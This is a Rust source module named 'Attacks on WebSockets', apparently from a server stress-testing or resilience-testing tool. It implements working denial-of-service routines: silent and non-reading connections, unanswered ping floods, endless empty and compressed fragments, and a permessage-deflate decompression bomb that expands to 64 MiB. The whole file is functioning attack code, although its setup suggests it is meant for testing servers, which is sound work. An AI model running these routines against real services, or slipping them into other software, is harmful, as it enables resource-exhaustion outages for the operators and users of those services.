//! Attacks on WebSockets.

use std::future::pending;
use std::io;

use flate2::{Compress, Compression, FlushCompress};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::Target;
use super::http1::flood;

/// Says nothing, and answers no ping.
pub(super) async fn silent(target: Target) -> io::Result<()> {
    let _stream = open(&target, "/echo", false).await?;
    target.engage();
    pending().await
}

/// Reads nothing of what comes without end.
pub(super) async fn deaf(target: Target) -> io::Result<()> {
    let _stream = open(&target, "/talk", true).await?;
    target.engage();
    pending().await
}

/// Sends pings as long as the system takes them, and reads no pong.
pub(super) async fn deaf_pings(target: Target) -> io::Result<()> {
    let mut stream = open(&target, "/echo", true).await?;
    target.engage();
    let pings = frame(0x89, &[0; 125]).repeat(64);
    while stream.write_all(&pings).await.is_ok() {}
    pending().await
}

/// Sends empty messages, and reads what comes back.
pub(super) async fn empty_messages(target: Target) -> io::Result<()> {
    repeat(target, &[], &frame(0x81, b"")).await
}

/// Sends a message in empty fragments, without end.
pub(super) async fn empty_fragments(target: Target) -> io::Result<()> {
    repeat(target, &frame(0x01, b""), &frame(0x00, b"")).await
}

/// Sends a compressed message in empty fragments, without end.
pub(super) async fn empty_compressed_fragments(target: Target) -> io::Result<()> {
    repeat(target, &frame(0x41, b""), &frame(0x00, b"")).await
}

/// Sends a small message that becomes a huge one.
pub(super) async fn bomb(target: Target) -> io::Result<()> {
    let mut stream = open(&target, "/echo", false).await?;
    let mut deflate = Compress::new(Compression::best(), false);
    let mut deflated = Vec::with_capacity(256 * 1024);
    deflate
        .compress_vec(&vec![0; 64 * 1024 * 1024], &mut deflated, FlushCompress::Sync)
        .map_err(io::Error::other)?;
    stream.write_all(&frame(0xc2, &deflated)).await?;
    target.engage();
    pending().await
}

async fn repeat(target: Target, first: &[u8], frame: &[u8]) -> io::Result<()> {
    let mut stream = open(&target, "/echo", false).await?;
    stream.write_all(first).await?;
    flood(stream, &frame.repeat(256), target.amount / 256 + 1, &target).await
}

async fn open(target: &Target, path: &str, deaf: bool) -> io::Result<TcpStream> {
    let mut stream = if deaf { target.connect_deaf(target.addr).await? } else { target.connect().await? };
    // What is not read is not to become small.
    let deflate = if deaf { "" } else { "sec-websocket-extensions: permessage-deflate\r\n" };
    let request = format!(
        "GET {path} HTTP/1.1\r\nhost: test\r\nupgrade: websocket\r\nconnection: Upgrade\r\n\
         sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n\
         {deflate}\r\n"
    );
    stream.write_all(request.as_bytes()).await?;
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await?);
    }
    if head.starts_with(b"HTTP/1.1 101") { Ok(stream) } else { Err(io::Error::other("no WebSocket")) }
}

/// A masked frame, by the mask that changes nothing.
fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![first];
    match payload.len() {
        len @ 0..126 => frame.push(0x80 | len as u8),
        len @ 126..65536 => {
            frame.push(0xfe);
            frame.extend((len as u16).to_be_bytes());
        }
        len => {
            frame.push(0xff);
            frame.extend((len as u64).to_be_bytes());
        }
    }
    frame.extend([0; 4]);
    frame.extend_from_slice(payload);
    frame
}
